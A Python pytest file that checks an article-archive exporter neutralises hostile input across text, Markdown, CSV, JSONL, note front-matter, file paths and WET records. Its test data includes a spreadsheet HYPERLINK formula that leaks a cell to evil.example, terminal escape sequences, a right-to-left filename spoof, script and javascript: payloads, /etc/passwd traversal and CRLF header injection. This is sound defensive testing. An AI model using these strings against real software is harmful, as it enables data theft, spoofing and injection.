"""Can a title take over a terminal, a spreadsheet or a page? Whatever stands in an article, no."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
import zlib

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from archive.article import Article
from archive.export import ExportFormat, write_articles
from archive.export_notes import note_of, note_path
from archive.export_wet import wet_record
from archive.markdown import escaped, link
from archive.neutral import cell, one_line, plain, web_url

HOSTILE = [
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    " \u200b\ufeff=1+1",
    "＝1＋1",
    "－1",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "\x9b31mred",
    "user\u202egnp.exe",
    "\u2066isolate",
    "a\x00b\x08c\x7f",
    "two\r\nlines\x0bthree\u2028four",
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "![x](http://evil.example/pixel)",
    "# heading",
    "- list",
    "1. list",
    "***bold*** `code` ~~gone~~ |table|",
    "&lt;script&gt; &#x3c;b&#x3e;",
    "<https://evil.example>",
    "www.evil.example http://evil.example me@evil.example",
    "    indented code",
    "===",
    "```\nfence",
    "$x$ [^1]: note",
]


def article(text: str, url: str = "https://news.example/a") -> Article:
    return Article(
        article_id="0" * 64,
        url=url,
        hostname=text,
        site_name=text,
        title=text,
        description=text,
        text=text + "\n\n" + text,
        authors=[{"name": text, "url": text}, {"name": text, "url": "javascript:alert(1)"}],  # type: ignore[list-item]
        section=text,
        keywords=[text],
        date_published=text,
        text_sha256="0" * 64,
        extractor={"name": "x", "version": "1", "options_sha256": "0" * 64},  # type: ignore[arg-type]
    )


def exported(one: Article, format: ExportFormat) -> str:
    stream = io.BytesIO()
    write_articles([one], stream, format)
    return stream.getvalue().decode()


def dangerous(text: str, allowed: str = "\n") -> list[str]:
    overrides = {*range(0x202A, 0x202F), *range(0x2066, 0x206A)}
    return [sign for sign in text if (unicodedata.category(sign) == "Cc" and sign not in allowed) or ord(sign) in overrides]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("format", ["text", "markdown", "csv"])
def test_no_control_character_leaves(text: str, format: ExportFormat) -> None:
    # CSV ends its lines with CR LF; line feeds in a text are in quotes.
    assert dangerous(exported(article(text), format).replace("\r\n", "\n")) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_json_lines_escape_what_a_terminal_would_obey(text: str) -> None:
    line = exported(article(text), "jsonl")
    assert line.count("\n") == 1
    assert [sign for sign in line if ord(sign) < 0x20 and sign != "\n"] == []


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_spreadsheet_is_a_formula(text: str) -> None:
    rows = list(csv.reader(io.StringIO(exported(article(text), "csv"), newline="")))
    assert len(rows) == 2
    for value in rows[1]:
        assert re.match(r"[\s\u200b-\u200f\ufeff]*[=+\-@\t\r＝＋－＠]", value) is None, value


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_of_an_article_is_markup(text: str) -> None:
    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(exported(article(text), "markdown"))
    tags = set(re.findall(r"<\s*/?\s*([a-zA-Z0-9!]+)", html))
    assert tags <= {"h1", "p", "a", "em"}, html
    targets = re.findall(r'href="([^"]*)"', html)
    assert set(targets) <= {"https://news.example/a"}, targets
    shown = re.sub(r"<[^>]*>", "", html).replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace("&amp;", "&")
    assert one_line(text) in shown  # and it still says what it said


@pytest.mark.parametrize("text", HOSTILE)
def test_the_head_of_a_note_holds_values_and_nothing_else(text: str) -> None:
    one = article(text)
    note = note_of(one)
    assert dangerous(note) == []
    begin, head, body = note.split("---\n", 2)
    assert begin == ""
    values = yaml.safe_load(head)
    assert set(values) <= {
        "title",
        "url",
        "site_name",
        "authors",
        "description",
        "section",
        "keywords",
        "date_published",
        "verdict",
        "article_id",
        "version",
    }
    assert values["title"] == one_line(text) or not one_line(text)
    assert values["authors"] == [one_line(text)] * 2
    assert values["keywords"] == [one_line(text)]
    assert isinstance(values["date_published"], str)
    assert body.lstrip().startswith("# ")


@given(st.text(), st.text())
def test_no_text_breaks_out_of_the_head_of_a_note(title: str, keyword: str) -> None:
    one = article("x").model_copy(update={"title": title, "keywords": [keyword, "yes", "1e3", "2024-11-08", "null"], "source": keyword})
    _, head, _ = note_of(one).split("---\n", 2)
    values = yaml.safe_load(head)
    assert values["title"] == one_line(title)
    assert values["keywords"] == [one_line(keyword), "yes", "1e3", "2024-11-08", "null"]
    assert values["source"] == one_line(keyword)


@pytest.mark.parametrize("text", [*HOSTILE, "../../etc/passwd", "/etc/passwd", "con", "a" * 5000])
def test_nothing_of_an_article_is_part_of_a_path(text: str) -> None:
    told = {"captured_at": "2024-11-08T08:15:00Z", "id": text, "run": text, "source": text, "language": text, "article_id": text}
    for update in (told, {**told, "captured_at": text}, {**told, "captured_at": None}):
        path = note_path(article(text).model_copy(update=update))
        assert re.fullmatch(r"(\d{4}-\d{2}|undated)/[0-9A-Za-z-]{1,100}\.md", path), path


@pytest.mark.parametrize("text", HOSTILE)
def test_a_record_of_a_wet_file_cannot_be_forged(text: str) -> None:
    url = f"https://news.example/{text}\r\nWARC-Type: response"
    one = article(text, url).model_copy(update={"id": text, "language": text, "captured_at": "2024-11-08T08:15:00Z"})
    head, _, block = zlib.decompress(wet_record(one), 31).partition(b"\r\n\r\n")
    names = [line.split(b":")[0] for line in head.split(b"\r\n")[1:]]
    assert names.count(b"WARC-Type") == 1
    assert len(names) == len(set(names))
    assert dangerous(block.removesuffix(b"\r\n\r\n").decode()) == []


@given(st.text())
def test_a_line_of_markdown_shows_exactly_the_text(text: str) -> None:
    expected = one_line(text)
    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(escaped(text) + "\n")
    if not expected:
        assert html == ""
        return
    assert html.startswith("<p>")
    inner = html.removeprefix("<p>").removesuffix("</p>\n")
    assert "<" not in inner
    assert inner.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace("&amp;", "&") == expected


@given(st.text())
def test_text_for_a_terminal_holds_no_control_but_line_feeds(text: str) -> None:
    assert dangerous(plain(text)) == []
    assert dangerous(one_line(text), allowed="") == []
    plain(text).encode()


@given(st.text(alphabet=st.characters(categories=["L", "M", "N", "P", "S", "Zs"])))
def test_what_people_read_is_left_as_it_is(text: str) -> None:
    assert plain(text) == text
    assert cell(text) in (text, f"'{text}")


@pytest.mark.parametrize("text", ["می‌خواهم", "👨‍👩‍👧", "שלום\u200f!", "e\u0301", "မြန်မာ"])
def test_joiners_and_marks_of_direction_stay(text: str) -> None:
    assert plain(text) == text


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "file:///etc/passwd",
        "//evil.example",
        "ftp://x.example/",
        "https://",
        "http://[",
        "",
        None,
        "vbscript:x",
    ],
)
def test_only_addresses_of_the_web_become_links(url: str | None) -> None:
    assert web_url(url) is None
    assert link("text", url) == "text"


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("https://news.example/a?b=c&d=%20#e", "https://news.example/a?b=c&d=%20#e"),
        ("https://news.example/a> <script>", "https://news.example/a%3E%20%3Cscript%3E"),
        ('https://news.example/"\\\x1b[31m', "https://news.example/%22%5C%1B[31m"),
        ("https://новини.example/міст", "https://новини.example/міст"),
        ("https://news.example/\u202egnp", "https://news.example/%E2%80%AEgnp"),
    ],
)
def test_an_address_cannot_leave_its_link(url: str, safe: str) -> None:
    assert web_url(url) == safe
